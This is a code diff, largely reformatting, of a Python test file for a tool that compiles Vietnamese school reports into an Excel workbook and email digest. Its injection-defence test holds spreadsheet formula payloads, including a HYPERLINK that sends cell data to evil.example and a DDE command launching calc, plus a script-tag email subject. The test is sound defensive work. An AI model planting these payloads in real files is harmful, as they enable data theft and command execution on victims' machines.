@@ -28,21 +28,32 @@ ROSTER = Path(__file__).resolve().parent.parent / "examples" / "units-thanh-oai-
 DEADLINE = datetime(2021, 10, 10, 0, 0, tzinfo=UTC) - timedelta(hours=7)  # 10/10 00:00 +07
 TITLE = "Tuần lễ hưởng ứng học tập suốt đời năm 2021"
 ACTIVITIES = (
-    ("Tuyên truyền về Tuần lễ trên cổng thông tin điện tử, Zalo, Facebook của đơn vị", "Nhà trường"),
+    (
+        "Tuyên truyền về Tuần lễ trên cổng thông tin điện tử, Zalo, Facebook của đơn vị",
+        "Nhà trường",
+    ),
     ("Treo băng rôn, khẩu hiệu “Chuyển đổi số và cơ hội học tập suốt đời”", "Đoàn TN, Đội TNTP"),
     ("Lớp tập huấn kỹ năng sử dụng Zoom, Google Meet, K12Online cho phụ huynh", "Tổ CNTT"),
     ("Cuộc thi trực tuyến “Công dân số” cho học sinh", "Liên đội"),
     ("Hội thảo chuyên đề đọc và học tập suốt đời theo tấm gương Bác Hồ", "Thư viện"),
     ("Chuyên đề sinh hoạt CLB kỹ năng sống (trực tuyến)", "TT HTCĐ, Hội Khuyến học"),
 )
-HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1", "@SUM(1)", "＝1+1",
-           "-2+3", "\t=1+1")
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+1",
+    "@SUM(1)",
+    "＝1+1",
+    "-2+3",
+    "\t=1+1",
+)
 
 
 def roster_units() -> list[tuple[str, str, str, tuple[str, ...]]]:
     with ROSTER.open(encoding="utf-8") as f:
-        return [(r["code"], r["name"], r["kind"], tuple(e for e in r["emails"].split(";") if e))
-                for r in csv.DictReader(f)]
+        return [
+            (r["code"], r["name"], r["kind"], tuple(e for e in r["emails"].split(";") if e))
+            for r in csv.DictReader(f)
+        ]
 
 
 def make_rows(rng: random.Random, n: int) -> tuple[TableRow, ...]:
@@ -51,8 +62,16 @@ def make_rows(rng: random.Random, n: int) -> tuple[TableRow, ...]:
         activity, organizer = ACTIVITIES[rng.randrange(len(ACTIVITIES))]
         classes = None if rng.random() < 0.1 else rng.randint(1, 12)  # blank cell in the form
         people = None if rng.random() < 0.05 else rng.choice((35, 120, 450, 1200, 2350))
-        rows.append(TableRow(str(i + 1), activity, organizer, classes, people,
-                             "Trực tuyến" if rng.random() < 0.3 else ""))
+        rows.append(
+            TableRow(
+                str(i + 1),
+                activity,
+                organizer,
+                classes,
+                people,
+                "Trực tuyến" if rng.random() < 0.3 else "",
+            )
+        )
     return tuple(rows)
 
 
@@ -75,32 +94,70 @@ def make_campaign(
         if state == "complete":
             noms = (
                 Nomination("1", name, True, "", name, "Tổ chức tốt các hoạt động của Tuần lễ"),
-                Nomination("2", f"Nguyễn Thị Hồng {i}", False, "Giáo viên", name,
-                           "Có nhiều sáng kiến ứng dụng công nghệ số"),
+                Nomination(
+                    "2",
+                    f"Nguyễn Thị Hồng {i}",
+                    False,
+                    "Giáo viên",
+                    name,
+                    "Có nhiều sáng kiến ứng dụng công nghệ số",
+                ),
             )
-        missing = {"complete": (), "incomplete": ("data_table", "photos") if not rows else ("photos",),
-                   "missing": ("report", "data_table", "photos")}[state]
+        missing = {
+            "complete": (),
+            "incomplete": ("data_table", "photos") if not rows else ("photos",),
+            "missing": ("report", "data_table", "photos"),
+        }[state]
         classes = sum(r.classes_or_contests or 0 for r in rows) if rows else None
         people = sum(r.participants or 0 for r in rows) if rows else None
-        statuses.append(UnitStatus(
-            code=code, name=name, kind=kind, emails=emails, state=state,
-            late=(state != "missing" and sent > DEADLINE) or (state != "complete"),
-            submitted_at=None if state == "missing" else sent,
-            last_message_at=None if state == "missing" else sent + timedelta(minutes=5),
-            messages=0 if state == "missing" else rng.randint(1, 3),
-            items=Items(state != "missing", bool(rows), 3 if state == "complete" else 1,
-                        bool(noms)),
-            total_classes=classes, total_participants=people, missing=missing, deadline=DEADLINE,
-        ))
+        statuses.append(
+            UnitStatus(
+                code=code,
+                name=name,
+                kind=kind,
+                emails=emails,
+                state=state,
+                late=(state != "missing" and sent > DEADLINE) or (state != "complete"),
+                submitted_at=None if state == "missing" else sent,
+                last_message_at=None if state == "missing" else sent + timedelta(minutes=5),
+                messages=0 if state == "missing" else rng.randint(1, 3),
+                items=Items(
+                    state != "missing", bool(rows), 3 if state == "complete" else 1, bool(noms)
+                ),
+                total_classes=classes,
+                total_participants=people,
+                missing=missing,
+                deadline=DEADLINE,
+            )
+        )
         data.append(UnitData(code=code, name=name, kind=kind, rows=rows, nominations=noms))
     status = CampaignStatus(
-        campaign_id="tuan-le-htsd-2021", title=TITLE, deadline=DEADLINE,
-        timezone="Asia/Ho_Chi_Minh", units=tuple(statuses),
-        unassigned=(LooseMessage(11, "<x@gmail.com>", "hieupho.thcs@gmail.com",
-                                 "<script>alert(1)</script> Báo cáo tuần lễ", DEADLINE,
-                                 "sender address not in the roster", ("thcs-kim-bai",)),),
-        quarantined=(LooseMessage(12, "<q@x>", "vanthu@thanhoai.example", "BC HTSD.rar",
-                                  DEADLINE, "archive type not supported"),),
+        campaign_id="tuan-le-htsd-2021",
+        title=TITLE,
+        deadline=DEADLINE,
+        timezone="Asia/Ho_Chi_Minh",
+        units=tuple(statuses),
+        unassigned=(
+            LooseMessage(
+                11,
+                "<x@gmail.com>",
+                "hieupho.thcs@gmail.com",
+                "<script>alert(1)</script> Báo cáo tuần lễ",
+                DEADLINE,
+                "sender address not in the roster",
+                ("thcs-kim-bai",),
+            ),
+        ),
+        quarantined=(
+            LooseMessage(
+                12,
+                "<q@x>",
+                "vanthu@thanhoai.example",
+                "BC HTSD.rar",
+                DEADLINE,
+                "archive type not supported",
+            ),
+        ),
         health=(AccountHealth("totrunghoc@imap.example:993", DEADLINE, None, ""),),
     )
     return status, data
@@ -127,7 +184,9 @@ def test_summary_sheet_totals_per_unit_kind_and_grand_total() -> None:
     merged = {str(r) for r in ws.merged_cells.ranges}
     assert {"A5:A6", "B5:B6", "C5:C6", "D5:E5", "F5:F6", "A1:F1"} <= merged
 
-    labels = {r[1]: (r[3], r[4]) for r in rows if isinstance(r[1], str) and r[1].startswith("Cộng ")}
+    labels = {
+        r[1]: (r[3], r[4]) for r in rows if isinstance(r[1], str) and r[1].startswith("Cộng ")
+    }
     with_rows = [d for d in data if d.rows]
     for d in with_rows:
         exp_c = sum(r.classes_or_contests or 0 for r in d.rows)
@@ -157,7 +216,9 @@ def test_status_and_nomination_sheets() -> None:
     for u in status.units:
         r = by_code[u.code]
         assert r[2] == u.name
-        assert r[4] == {"complete": "Đã đủ", "incomplete": "Chưa đủ", "missing": "Chưa gửi"}[u.state]
+        assert (
+            r[4] == {"complete": "Đã đủ", "incomplete": "Chưa đủ", "missing": "Chưa gửi"}[u.state]
+        )
         assert r[5] == ("Quá hạn" if u.overdue else "Nộp muộn" if u.submitted_late else None)
         if u.submitted_at is not None:  # local wall time (UTC+7), naive in Excel
             assert r[6] == (u.submitted_at + timedelta(hours=7)).replace(tzinfo=None)
@@ -179,8 +240,13 @@ def test_sender_text_never_becomes_a_formula() -> None:
         TableRow(stt=h, activity=h, organizer=h, classes_or_contests=1, participants=2, note=h)
         for h in HOSTILE
     )
-    data[data.index(d)] = UnitData(d.code, d.name, d.kind, hostile_rows,
-                                   (Nomination("=1", "=cmd|' /C calc'!A0", False, "+1", "@x", "-1"),))
+    data[data.index(d)] = UnitData(
+        d.code,
+        d.name,
+        d.kind,
+        hostile_rows,
+        (Nomination("=1", "=cmd|' /C calc'!A0", False, "+1", "@x", "-1"),),
+    )
     blob = build_workbook(status, data)
     wb = _load(blob)
     seen = 0
@@ -219,8 +285,14 @@ def test_large_campaign_lists_are_cut_in_the_digest_not_the_workbook() -> None:
     units = [(f"{c}-{i}", f"{n} ({i})", k, e) for i in range(6) for c, n, k, e in base][:600]
     status, data = make_campaign(units, seed=3, rows_per_unit=4)
     blob = build_workbook(status, data, now=DEADLINE)
-    mail = compose_digest(status, since=None, now=DEADLINE, workbook=blob, env=make_env(),
-                          recipients=("totrunghoc@thanhoai.example",))
+    mail = compose_digest(
+        status,
+        since=None,
+        now=DEADLINE,
+        workbook=blob,
+        env=make_env(),
+        recipients=("totrunghoc@thanhoai.example",),
+    )
     assert len(mail.html or "") < 150_000
     wb = openpyxl.load_workbook(io.BytesIO(blob), read_only=True)
     assert sum(1 for _ in wb[STATUS_SHEET].iter_rows(values_only=True)) == 601
